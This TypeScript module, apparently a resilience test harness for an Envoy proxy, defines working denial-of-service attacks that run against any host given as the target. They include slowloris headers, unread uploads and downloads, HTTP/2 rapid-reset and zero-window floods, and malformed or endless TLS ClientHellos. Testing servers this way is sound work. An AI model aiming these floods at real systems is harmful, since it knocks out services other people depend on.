import * as http2 from 'node:http2';
import * as net from 'node:net';
import * as tls from 'node:tls';

const MIB = 1_048_576;
const SIZE = 8 * MIB;
const CHUNK = Buffer.alloc(65_536);
/** The longest record of TLS. Unit: bytes. */
const RECORD = 16_384;

/** The listener under attack, and the identity of the attacker if the listener needs TLS. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly identity?: tls.ConnectionOptions;
}

/** An attack that has started. It returns how it ends. */
export type Attack = (target: Target) => () => void;

type Socket = net.Socket;

/** Opens connections. Envoy may close the connections of an attacker. */
function open(target: Target, count: number, write: (socket: Socket) => void = () => {}): Socket[] {
  return Array.from({ length: count }, () => {
    const socket = connection(target, 'http/1.1', () => write(socket));
    return socket.on('error', () => socket.destroy());
  });
}

function connection({ host, port, identity }: Target, protocol: string, onOpen: () => void): Socket {
  if (!identity) return net.connect(port, host, onOpen);
  return tls.connect({ host, port, ...identity, rejectUnauthorized: false, ALPNProtocols: [protocol] }, onOpen);
}

function session(target: Target, settings: http2.Settings = {}): http2.ClientHttp2Session {
  const scheme = target.identity ? 'https' : 'http';
  const client = http2.connect(`${scheme}://${target.host}:${target.port}`, {
    settings,
    createConnection: () => connection(target, 'h2', () => {}),
  });
  return client.on('error', () => client.destroy());
}

function endAll(sockets: Socket[]): () => void {
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}

function repeat(milliseconds: number, act: () => void, end: () => void): () => void {
  const timer = setInterval(act, milliseconds);
  return () => {
    clearInterval(timer);
    end();
  };
}

/** The handshake of WebSocket, with the key of RFC 6455. */
const UPGRADE = [
  'GET / HTTP/1.1',
  'Host: a',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  '',
  '',
].join('\r\n');

/** The attacks on any listener. */
export const ATTACKS: Record<string, Attack> = {
  '100 uploads that the application does not read': (target) => {
    const head = `POST /?unread=60000 HTTP/1.1\r\nHost: a\r\nContent-Length: ${SIZE}\r\n\r\n`;
    return endAll(
      open(target, 100, (socket) => {
        socket.write(head);
        // Not all at once, because the encryption of all would block this process, and with it the other caller.
        const writeMore = () => {
          while (socket.writable && socket.write(CHUNK));
        };
        socket.on('drain', writeMore);
        writeMore();
      }),
    );
  },
  '100 downloads that the client does not read': (target) =>
    endAll(
      open(target, 100, (socket) => {
        socket.pause();
        socket.write(`GET /?size=${SIZE} HTTP/1.1\r\nHost: a\r\n\r\n`);
      }),
    ),
  '100 downloads that the client reads slowly': (target) => {
    const sockets = open(target, 100, (socket) => {
      socket.pause();
      socket.write(`GET /?size=${SIZE} HTTP/1.1\r\nHost: a\r\n\r\n`);
    });
    const readSome = () => {
      for (const socket of sockets) socket.read(1);
    };
    return repeat(500, readSome, endAll(sockets));
  },
  'one HTTP/2 connection with 100 streams of 8 MiB that nobody reads': (target) => {
    const client = session(target, { initialWindowSize: 0 });
    for (let count = 0; count < 100; count++) {
      client.request({ ':path': `/?size=${SIZE}` }).on('error', () => {});
    }
    return () => client.destroy();
  },
  'streams that the client resets at once': (target) => {
    let client = session(target);
    const resetMany = () => {
      // Envoy closes the connection of a client that resets too many streams.
      if (client.closed || client.destroyed) client = session(target);
      for (let count = 0; count < 50; count++) {
        const stream = client.request({ ':path': '/?sleep=1000' });
        stream.on('error', () => {}).close(http2.constants.NGHTTP2_CANCEL);
      }
    };
    return repeat(20, resetMany, () => client.destroy());
  },
  '200 clients that send their headers slowly': (target) => {
    const sockets = open(target, 200, (socket) => socket.write('GET / HTTP/1.1\r\nHost: a\r\n'));
    const writeSome = () => {
      for (const socket of sockets) if (socket.writable) socket.write('x-slow: 1\r\n');
    };
    return repeat(500, writeSome, endAll(sockets));
  },
  '2,000 WebSocket sessions': (target) => endAll(open(target, 2_000, (socket) => socket.write(UPGRADE))),
};

/** The attack of a client that needs no TLS. */
export const PLAIN_ATTACKS: Record<string, Attack> = {
  '8,000 idle connections': (target) => endAll(open(target, 8_000)),
};

/** Sends the beginning of a ClientHello whose header claims 16 MB, as one record after the other. */
function sendLongHello(socket: Socket): void {
  const header = Buffer.from([22, 3, 1, RECORD >> 8, RECORD & 255]);
  const claim = Buffer.from([1, 255, 255, 255]);
  socket.write(Buffer.concat([header, claim, Buffer.alloc(RECORD - claim.length)]));
  const writeMore = () => {
    while (socket.writable && socket.write(Buffer.concat([header, Buffer.alloc(RECORD)])));
  };
  socket.on('drain', writeMore);
  writeMore();
}

/** Opens connections again and again, and closes each after its handshake. */
function handshakes(target: Target): () => void {
  let sockets: Socket[] = [];
  const handshake = () => {
    sockets = [...sockets.filter(({ destroyed }) => !destroyed), ...open(target, 2, (socket) => socket.destroy())];
  };
  return repeat(20, handshake, () => endAll(sockets)());
}

/** The attacks on TLS itself. */
export const TLS_ATTACKS: Record<string, Attack> = {
  '1,000 idle connections': (target) => endAll(open(target, 1_000)),
  '4,000 connections without a TLS handshake': ({ host, port }) => endAll(open({ host, port }, 4_000)),
  '4,000 connections with a part of a ClientHello': ({ host, port }) => {
    // A record of 512 bytes with a ClientHello of 508, of which only the versions arrive.
    const part = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);
    return endAll(open({ host, port }, 4_000, (socket) => socket.write(part)));
  },
  'ClientHellos without an end': ({ host, port }) => {
    let sockets: Socket[] = [];
    const begin = () => {
      sockets = [
        ...sockets.filter(({ destroyed }) => !destroyed),
        ...open({ host, port }, 10, (socket) => sendLongHello(socket)),
      ];
    };
    return repeat(100, begin, () => endAll(sockets)());
  },
  'handshakes of old versions': ({ host, port }) =>
    handshakes({
      host,
      port,
      identity: { minVersion: 'TLSv1.1', maxVersion: 'TLSv1.1', ciphers: 'DEFAULT@SECLEVEL=0' },
    }),
  'handshakes with a certificate, 100 a second': handshakes,
  'handshakes without a certificate, 100 a second': ({ host, port }) => handshakes({ host, port, identity: {} }),
};
